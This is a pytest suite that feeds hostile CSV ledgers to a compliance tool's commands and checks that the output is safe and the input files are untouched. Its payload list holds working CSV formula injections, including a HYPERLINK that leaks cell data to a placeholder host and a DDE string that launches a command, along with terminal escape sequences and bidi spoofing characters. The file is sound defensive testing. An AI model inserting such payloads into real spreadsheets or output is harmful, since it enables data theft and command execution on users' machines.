"""Hostile ledgers through every ledger command and the desk: no traceback, no escape, no loss.

A clerk's ledger may hold anything: a formula (``=HYPERLINK(...)``), terminal escape sequences,
C1 controls, bidi overrides, NUL, a field of half a megabyte, bytes that are not UTF-8. Every
ledger command (``metrology due``, ``licences check`` with ``--events``, ``commitments status``)
and the desk (``desk import --keep-going``, ``desk report`` as a table, ``--csv`` and
``--html``) must answer with status 0, 1 or 2, never a traceback, print no character a terminal
would act on in its text output or on standard error, and leave every input file as it was
(issue #18, items 1, 10, 12 and the fault campaign).
"""

from __future__ import annotations

import csv
import io
import shutil
import unicodedata
from pathlib import Path

import pytest

from qsdomain.cli import main

DATA = Path(__file__).resolve().parents[1] / "examples" / "data"
AS_OF = ("--as-of", "2026-11-27")

#: Text a hostile ledger carries in its cells.
PAYLOADS = (
    '=HYPERLINK("http://x.example/?"&A1,"点我")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\x1b]0;PWNED\x07\x1b[2J",
    "A\x9b31mB\x9b2J",
    "\u202egnp.exe",
    "\u2066秤\u2069\u200f",
    "a\x00b",
    "\x7f\x08\x08\x08ok",
    "\x85\x8d\x90\r\n=1+1",
)

#: The ledgers, each with its header and a row template that puts a payload in text cells
#: ({p}) and one that puts it where a date or a number is expected.
LEDGERS = {
    "instruments.csv": (
        "id,name,interval_months,verified_on,outcome",
        (
            ("JL-{i}{p}", "{p}", "12", "2026-01-10", "pass"),
            ("JL-X{i}", "秤", "12", "2026-01-{p}", "pass"),
        ),
    ),
    "licences.csv": (
        "number,kind,holder,issued,valid_until,scope",
        (
            ("XK16-204-{i:05d}", "industrial_product", "{p}", "2021-12-20", "", "{p}"),
            ("XK16-205-{i:05d}{p}", "industrial_product", "某公司", "2021-12-{p}", "", "管材"),
        ),
    ),
    "licence-events.csv": (
        "number,event,on,until,valid_until,note",
        (
            ("XK16-204-00318", "renewal_applied", "2026-05-{i:02d}", "", "", "{p}"),
            ("XK16-204-00318{p}", "suspended", "2026-06-01", "{p}", "", "x"),
        ),
    ),
    "cases.csv": (
        "case,item,event,at,handler",
        (
            ("C-{i}{p}", "XK-GYCP", "received", "2026-08-20T09:40:00+08:00", "{p}"),
            ("C-Y{i}", "XK-GYCP{p}", "received", "2026-08-{p}", "李明"),
        ),
    ),
    "lots.csv": (
        "lot_id,received,product,lot_size,aql,nonconforming_found",
        (
            ("L-{i}{p}", "2026-10-08", "{p}", "2000", "1.5", "2"),
            ("L-Y{i}", "2026-10-08", "管件", "{p}", "1.5", "2"),
        ),
    ),
}

Template = tuple[str, ...]


def _row(template: Template, i: int, payload: str) -> str:
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\n").writerow(
        [cell.format(i=i, p=payload) for cell in template]
    )
    return buffer.getvalue()


def _hostile(header: str, rows: tuple[Template, ...]) -> str:
    lines = [header + "\n"]
    for i, payload in enumerate(PAYLOADS, start=1):
        lines.extend(_row(row, i, payload) for row in rows)
    return "".join(lines)


@pytest.fixture(scope="module")
def ledgers(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """Three folders of hostile ledgers: payloads, a huge field, bytes that are not UTF-8."""
    root = tmp_path_factory.mktemp("hostile")
    folders = {}
    for kind in ("payloads", "huge", "bytes"):
        folder = root / kind
        folder.mkdir()
        shutil.copy(DATA / "service_items.json", folder / "service_items.json")
        for name, (header, rows) in LEDGERS.items():
            good = f"{header}\n{_row(rows[0], 0, 'ok')}"
            if kind == "payloads":
                data = _hostile(header, rows).encode("utf-8")
            elif kind == "huge":
                data = (good + _row(rows[0], 1, "x" * 300_000)).encode("utf-8")
            else:  # a lone 0xff, then a truncated two-byte sequence
                bad = _row(rows[0], 1, "\udcff").encode("utf-8", "surrogateescape")
                data = good.encode("utf-8") + bad + b"\xc3(\n"
            (folder / name).write_bytes(data)
        folders[kind] = folder
    return folders


def _unshown(text: str) -> list[str]:
    """The characters of ``text`` a terminal would act on (or reorder the line by)."""
    return sorted(
        {ch for ch in text if ch != "\n" and unicodedata.category(ch) in ("Cc", "Cf", "Cs")}
    )


def _snapshot(folder: Path) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in folder.iterdir() if p.is_file()}


def _check(capsys: pytest.CaptureFixture[str], argv: list[str], *, text: bool) -> int:
    status = main(argv)
    out, err = capsys.readouterr()
    assert status in (0, 1, 2), (argv, status, err)
    assert "Traceback" not in out + err, argv
    shown = [out] if text else []  # --json and --csv outputs are data
    if "--json" not in argv:  # standard error is text unless it holds a JSON error
        shown.append(err)
    for stream in shown:
        assert _unshown(stream) == [], argv
        # a line break inside a ledger's value never starts a line of its own
        assert not any(line.startswith("=1+1") for line in stream.splitlines()), argv
    return status


def _family_commands(folder: Path) -> list[list[str]]:
    f = {name: str(folder / name) for name in (*LEDGERS, "service_items.json")}
    return [
        ["metrology", "due", f["instruments.csv"], *AS_OF],
        ["licences", "check", f["licences.csv"], *AS_OF],
        ["licences", "check", str(DATA / "licences.csv"), "--events", f["licence-events.csv"],
         *AS_OF],
        ["commitments", "status", f["cases.csv"], *AS_OF],
        ["commitments", "status", f["cases.csv"], "--items", f["service_items.json"], *AS_OF],
    ]  # fmt: skip


@pytest.mark.parametrize("kind", ["payloads", "huge", "bytes"])
def test_every_ledger_command_survives_hostile_ledgers(
    kind: str, ledgers: dict[str, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    folder = ledgers[kind]
    before = _snapshot(folder)
    statuses = []
    for argv in _family_commands(folder):
        statuses.append(_check(capsys, argv, text=True))
        _check(capsys, [*argv, "--csv", "--no-progress"], text=False)
        _check(capsys, [*argv, "--json"], text=False)
    assert _snapshot(folder) == before
    if kind == "payloads":  # the hostile rows were read (and some rejected), not refused whole
        assert set(statuses) == {1}, statuses


@pytest.mark.parametrize("kind", ["payloads", "huge", "bytes"])
def test_the_desk_survives_hostile_ledgers(
    kind: str, ledgers: dict[str, Path], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    folder = tmp_path / kind
    shutil.copytree(ledgers[kind], folder)
    before = _snapshot(folder)
    database = str(tmp_path / "d.sqlite")
    assert _check(capsys, ["desk", "init", database], text=True) == 0
    files = [str(folder / n) for n in ("service_items.json", *LEDGERS)]
    files.insert(3, str(DATA / "licences.csv"))  # the events' licence, before the events
    for name in files:  # one by one: a file refused whole does not stop the others
        _check(capsys, ["desk", "import", database, name, "--keep-going"], text=True)
    status = _check(capsys, ["desk", "report", database, *AS_OF], text=True)
    assert status == 0
    report = ["desk", "report", database, *AS_OF, "--limit", "1000"]
    _check(capsys, report, text=True)
    _check(capsys, [*report, "--json"], text=False)
    html = tmp_path / "out" / "report.html"
    html.parent.mkdir()
    written = [*report, "--html", str(html), "--csv", str(html.parent), "--table"]
    _check(capsys, written, text=True)
    assert _unshown(html.read_text(encoding="utf-8")) == []
    after = _snapshot(folder)
    assert {n: after[n] for n in before} == before  # every ledger as it was
    made = sorted(set(after) - set(before))
    assert all(n.endswith(".rejects.csv") for n in made), made
